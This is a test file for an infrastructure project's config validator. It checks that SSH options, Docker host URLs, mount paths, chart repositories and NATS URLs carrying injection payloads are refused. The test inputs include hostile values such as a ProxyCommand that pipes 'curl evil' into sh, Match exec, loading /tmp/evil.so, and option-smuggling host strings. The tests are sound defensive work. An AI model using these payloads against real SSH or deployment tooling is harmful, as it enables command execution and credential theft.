import { describe, expect, it } from "vitest";
import { sshOptionProblems } from "../../components/docker/sshOptions";
import { configProblems } from "../harness/configProblems";

/**
 * Config values that reach a shell, a command line or a config file are refused at load when they could change what
 * that consumer does (docs/security.md lists every value and its consumer).
 */

const docker = (settings: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
  configProblems({ profile: "docker", docker: settings, ...extra });
const keys = (problems: string[]) => problems.map((p) => p.slice(0, p.indexOf(": ")));

describe("docker.sshOpts: nothing that runs a program on the machine running Pulumi", () => {
  it.each([
    [["-o", "ProxyCommand=sh -c 'curl evil | sh'"], 1],
    [["-oProxyCommand=nc %h %p"], 0],
    [["-vo", "LocalCommand=id"], 1],
    [["-o", "permitlocalcommand yes"], 1],
    [["-o", "KnownHostsCommand /tmp/x"], 1],
    [["-o", 'Match exec "id"'], 1],
    [["-o", "Include /tmp/evil.conf"], 1],
    [["-o", "PKCS11Provider=/tmp/evil.so"], 1],
    [["-F", "/tmp/evil.conf"], 0],
    [["-I/tmp/evil.so"], 0],
    [["-i", "/k", "-o", "RemoteCommand=sh"], 3],
    [["-o", "User=deploy\nProxyCommand=id"], 1],
  ])("refuses %j at its index", (sshOpts, index) => {
    expect(keys(docker({ host: "ssh://deploy@docker-host", adminAddress: "10.0.0.5", sshOpts }))).toEqual([
      `stellaops-infra:docker.sshOpts[${index}]`,
    ]);
  });

  it("accepts the options an operator needs (identity, port, known hosts, jump host, keep-alives)", () => {
    const sshOpts = [
      "-i",
      "/home/deploy/.ssh/id_ed25519",
      "-p2222",
      "-o",
      "StrictHostKeyChecking=yes",
      "-oUserKnownHostsFile=/etc/ssh/known_hosts.stellaops",
      "-J",
      "bastion.internal",
      "-o",
      "ServerAliveInterval=30",
      // The argument of -l is a user name, not a flag, even when it looks like one.
      "-l",
      "-oProxyCommand",
    ];
    expect(sshOptionProblems(sshOpts)).toEqual([]);
    expect(
      docker({ host: "ssh://deploy@docker-host", adminAddress: "10.0.0.5", sshOpts: sshOpts.slice(0, 10) }),
    ).toEqual([]);
  });
});

describe("docker.host", () => {
  it.each([
    "ssh://-oProxyCommand=id@host",
    "ssh://deploy@-oProxyCommand=id",
    "ssh://deploy@host name",
    "tcp://host:2376\n",
  ])("refuses %j (ssh would read it as an option, or it is no host)", (host) => {
    expect(keys(docker({ host, adminAddress: "10.0.0.5" }))).toEqual(["stellaops-infra:docker.host"]);
  });

  it.each(["ssh://deploy@docker-host", "ssh://docker-host.internal:2222", "ssh://[fd00::5]", "tcp://10.0.0.5:2376"])(
    "accepts %j",
    (host) => {
      expect(docker({ host, adminAddress: "10.0.0.5" })).toEqual([]);
    },
  );
});

describe("TLS host directories (bind-mount specs)", () => {
  it("refuse ':', ',' and whitespace in docker.valkey.tls.hostDir and docker.nats.tls.hostDir", () => {
    expect(keys(docker({ valkey: { tls: { hostDir: "/etc/tls:/data" } } }))).toEqual([
      "stellaops-infra:docker.valkey.tls.hostDir",
    ]);
    expect(keys(docker({ valkey: { tls: { hostDir: "/etc/../root" } } }))).toEqual([
      "stellaops-infra:docker.valkey.tls.hostDir",
    ]);
    expect(keys(docker({ nats: { tls: { hostDir: "/etc/nats tls,z" } } }, { nats: { enabled: true } }))).toEqual([
      "stellaops-infra:docker.nats.tls.hostDir",
    ]);
    expect(docker({ valkey: { tls: { hostDir: "/etc/stellaops/valkey-tls" } } })).toEqual([]);
  });
});

describe("chart repositories", () => {
  it("must be https://, http:// or oci:// URLs", () => {
    const k8s = (repository: string) =>
      configProblems({
        profile: "kubernetes",
        kubernetes: { runsInCluster: true, valkey: { chart: { repository, chart: "valkey", version: "0.9.4" } } },
      });
    expect(keys(k8s("valkey.io/valkey-helm"))).toEqual(["stellaops-infra:kubernetes.valkey.chart.repository"]);
    expect(keys(k8s("https://valkey.io/valkey-helm/ --insecure"))).toEqual([
      "stellaops-infra:kubernetes.valkey.chart.repository",
    ]);
    expect(k8s("oci://registry.local:5000/charts")).toEqual([]);
    expect(k8s("https://valkey.io/valkey-helm/")).toEqual([]);
  });
});

describe("external.nats.url", () => {
  const external = (url: string) =>
    configProblems(
      {
        profile: "external",
        nats: { enabled: true },
        external: {
          postgres: { host: "db.internal", adminPassword: "secret-value-1" },
          valkey: { host: "cache.internal", adminPassword: "secret-value-2" },
          objectStore: { endpoint: "https://s3.internal:9000", accessKey: "stellaops", secretKey: "secret-value-3" },
          nats: { url, password: "secret-value-4" },
        },
      },
      { isSecretKey: () => true },
    );

  it.each(["nats://evil@nats.internal:4222", "nats://nats.internal?x=1:4222", "nats://nats.internal#:4222"])(
    "refuses %j (credentials are added as userinfo: another '@', a query or fragment would break or redirect them)",
    (url) => {
      expect(keys(external(url))).toEqual(["stellaops-infra:external.nats.url"]);
    },
  );

  it.each(["nats://nats.internal:4222", "nats://10.0.0.7:4222", "nats://[fd00::7]:4222"])("accepts %j", (url) => {
    expect(external(url)).toEqual([]);
  });
});
